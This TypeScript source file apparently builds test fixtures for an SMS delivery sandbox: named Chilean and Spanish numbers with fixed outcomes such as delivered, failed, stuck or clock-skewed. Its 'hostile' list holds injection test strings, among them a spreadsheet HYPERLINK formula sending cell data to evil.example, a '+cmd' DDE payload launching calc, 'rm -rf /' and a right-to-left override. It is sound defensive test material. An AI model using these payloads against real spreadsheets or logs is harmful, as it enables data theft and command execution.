import { SECONDS_A_DAY, SECONDS_A_MINUTE, SECONDS_AN_HOUR } from '../calendar.ts';
import { createDraw } from './draw.ts';
import type { Fate, SandboxMessage } from './message.ts';
import { codeText, deliveryText, marketingText, reminderText, type Sender } from './senders.ts';

const handOver = { saysAfter: 2, knownAfter: 3 };
const neverHandedOver: Fate = { pending: 'accepted' };
const stuck: Fate = { pending: 'enroute', handOver };
const noReceipts: Fate = { pending: 'sent', handOver: { saysAfter: 4, knownAfter: 5 } };
const sentFailed: Fate = { pending: 'sent', handOver, receipt: { status: 'sent_failed', knownAfter: 6 } };
const undeliverable = received('sent', 41, 44, 'undeliverable');
const prompt = received('sent', 8, 10);
const slowReceipt = received('enroute', 9, 10 * SECONDS_A_MINUTE + 20);
const late = received('enroute', 25 * SECONDS_A_MINUTE, 25 * SECONDS_A_MINUTE + 3);
const clockOff: Fate = {
  pending: 'sent',
  handOver: { saysAfter: 2 - 2 * SECONDS_AN_HOUR, knownAfter: 3 },
  receipt: { status: 'delivered', saysAfter: 9 - 2 * SECONDS_AN_HOUR, knownAfter: 11 },
};

function received(pending: string, saysAfter: number, knownAfter: number, status = 'delivered'): Fate {
  return { pending, handOver, receipt: { status, saysAfter, knownAfter } };
}

type Writer = Pick<Sender, 'number' | 'write'>;

const code: Writer = { number: '56001', write: codeText };
const reminder: Writer = { number: '56002', write: reminderText };
const offer: Writer = { number: '56003', write: marketingText };
const parcel: Writer = { number: '56004', write: deliveryText };
const nothing: Writer = { number: '-', write: () => '-' };

/** Texts that break a careless view, spreadsheet or log; the fifth has a right-to-left override. */
const hostileTexts: readonly string[] = [
  '<!channel> <!here> <!everyone> aviso urgente',
  'Hola <@U1>, revise <#C1|general> y <!subteam^S1>',
  '<https://evil.example|click> para ganar & cobrar <b>ya</b>',
  '```rm -rf /``` y `código` *negrita* _cursiva_ ~tachado~ &amp; > cita',
  'Su saldo es \u202e000.1$ hoy\u0007\u200b',
  ''.padEnd(4000, 'Texto muy largo, una y otra vez. '),
  '=HYPERLINK("https://evil.example/?x="&A1,"premio")',
  '+cmd|\' /C calc\'!A0\r\n@SUM(1+1)*"comillas", "coma"; punto y coma\n-2+3',
];

/** One message of a named number, the same every day but for its text. */
interface Scene {
  /** Second of the UTC day. Office hours in Chile are about 13:00 to 22:00 UTC all year. */
  readonly second: number;
  readonly from: Writer;
  readonly fate: Fate;
}

function at(time: string, from: Writer, fate: Fate): Scene {
  const [hours = 0, minutes = 0, seconds = 0] = time.split(':').map(Number);
  return { second: hours * SECONDS_AN_HOUR + minutes * SECONDS_A_MINUTE + seconds, from, fate };
}

/** The same all day long; the first comes at the first second of the day. */
function every(seconds: number, from: Writer, fate: Fate): readonly Scene[] {
  const count = Math.floor(SECONDS_A_DAY / seconds);
  return Array.from({ length: count }, (_, turn) => ({ second: turn * seconds, from, fate }));
}

function hostileScenes(): readonly Scene[] {
  const { second } = at('12:15:00', nothing, prompt);
  return hostileTexts.map((text, turn) => ({
    second: second + turn * 75 * SECONDS_A_MINUTE,
    from: { number: offer.number, write: () => text },
    fate: prompt,
  }));
}

export type StoryName =
  | ('delivered' | 'failed' | 'waiting' | 'stuck' | 'no-hand-over' | 'dashes' | 'clock-off')
  | ('hostile' | 'many' | 'none' | 'late' | 'no-receipts' | 'foreign');

/** A number whose messages always tell the same story, whatever the day. */
interface Story {
  readonly name: StoryName;
  /** As people write it, such as `+56 9 1234 5678`. */
  readonly number: string;
  readonly about: string;
  readonly when?: string;
  readonly operator: string;
  readonly scenes: readonly Scene[];
  /** The platform kept nothing but the number. */
  readonly isLost?: true;
}

export const stories: readonly Story[] = [
  {
    name: 'delivered',
    number: '+56 9 1234 5678',
    about: 'all is well: delivered by Entel within seconds',
    when: 'three a day, in office hours',
    operator: 'Entel',
    scenes: [at('13:05:20', code, prompt), at('16:30:40', reminder, prompt), at('21:45:10', code, prompt)],
  },
  {
    name: 'failed',
    number: '+56 9 1111 0001',
    about: 'every message fails at the operator: sent_failed, later in the day undeliverable',
    when: 'four a day',
    operator: 'Claro',
    scenes: [
      at('12:48:05', code, sentFailed),
      at('15:20:31', code, sentFailed),
      at('19:10:44', reminder, undeliverable),
      at('22:02:17', code, undeliverable),
    ],
  },
  {
    name: 'waiting',
    number: '+56 9 1111 0002',
    about: 'the newest message always waits for its receipt, which takes 10 min 20 s to reach the platform',
    when: 'every ten minutes',
    operator: 'Movistar',
    scenes: every(10 * SECONDS_A_MINUTE, code, slowReceipt),
  },
  {
    name: 'stuck',
    number: '+56 9 1111 0003',
    about: 'handed over, then no receipt ever: enroute',
    when: 'two a day',
    operator: 'WOM',
    scenes: [at('14:02:09', code, stuck), at('20:17:52', parcel, stuck)],
  },
  {
    name: 'no-hand-over',
    number: '+56 9 1111 0004',
    about: 'accepted by the platform, never handed over',
    when: 'two a day',
    operator: 'Entel',
    scenes: [at('13:33:13', code, neverHandedOver), at('19:41:27', code, neverHandedOver)],
  },
  {
    name: 'dashes',
    number: '+56 9 1111 0005',
    about: 'the platform kept nothing but the number: every other field is "-"',
    when: 'two a day',
    operator: '-',
    scenes: [at('12:20:00', nothing, neverHandedOver), at('18:50:00', nothing, neverHandedOver)],
    isLost: true,
  },
  {
    name: 'clock-off',
    number: '+56 9 1111 0006',
    about: "delivered, but the operator's clock is two hours behind",
    when: 'three a day',
    operator: 'VTR',
    scenes: [
      at('13:11:30', code, clockOff),
      at('17:08:02', reminder, clockOff),
      at('21:26:48', code, clockOff),
    ],
  },
  {
    name: 'hostile',
    number: '+56 9 1111 0007',
    about: 'texts with Slack markup, formulas, control characters, 4,000 characters',
    when: 'eight a day',
    operator: 'Movistar',
    scenes: hostileScenes(),
  },
  {
    name: 'many',
    number: '+56 9 1111 0008',
    about: 'hundreds of messages',
    when: '150 a day',
    operator: 'Movistar',
    scenes: every(576, offer, prompt),
  },
  { name: 'none', number: '+56 9 1111 0009', about: 'never any message', operator: '-', scenes: [] },
  {
    name: 'late',
    number: '+56 9 1111 0010',
    about: 'delivered, now and then only after 25 minutes',
    when: 'four a day',
    operator: 'WOM',
    scenes: [
      at('13:15:35', code, prompt),
      at('15:40:18', code, late),
      at('18:05:51', parcel, prompt),
      at('21:20:06', code, late),
    ],
  },
  {
    name: 'no-receipts',
    number: '+56 9 1111 0011',
    about: 'an operator that never sends receipts (Ruta Andina): sent for ever',
    when: 'two a day',
    operator: 'Ruta Andina',
    scenes: [at('14:25:45', code, noReceipts), at('20:52:33', offer, noReceipts)],
  },
  {
    name: 'foreign',
    number: '+34 612 345 678',
    about: 'a number in Spain, delivered',
    when: 'two a day',
    operator: 'Orange ES',
    scenes: [at('12:55:29', code, prompt), at('18:35:57', parcel, prompt)],
  },
];

/** Each story has a thousand places of a day of its own. */
const PLACES_PER_STORY = 1000;

const byDigits = stories.map((story) => ({ ...story, msisdn: story.number.replaceAll(/\D/g, '') }));

/** The messages of all named numbers, or of one, on a UTC day, in time order. */
export function storyMessages(seed: number, day: number, msisdn?: string): readonly SandboxMessage[] {
  return byDigits
    .flatMap((story, index) => {
      if (msisdn !== undefined && story.msisdn !== msisdn) return [];
      return story.scenes.map((scene, turn) => ({
        day,
        place: index * PLACES_PER_STORY + turn,
        msisdn: story.msisdn,
        operator: story.operator,
        sender: scene.from.number,
        text: scene.from.write(createDraw(seed, day, index * PLACES_PER_STORY + turn, 0xf)),
        submittedAt: day * SECONDS_A_DAY + scene.second,
        fate: scene.fate,
        ...(story.isLost && { lost: true as const }),
      }));
    })
    .sort((a, b) => a.submittedAt - b.submittedAt || a.place - b.place);
}
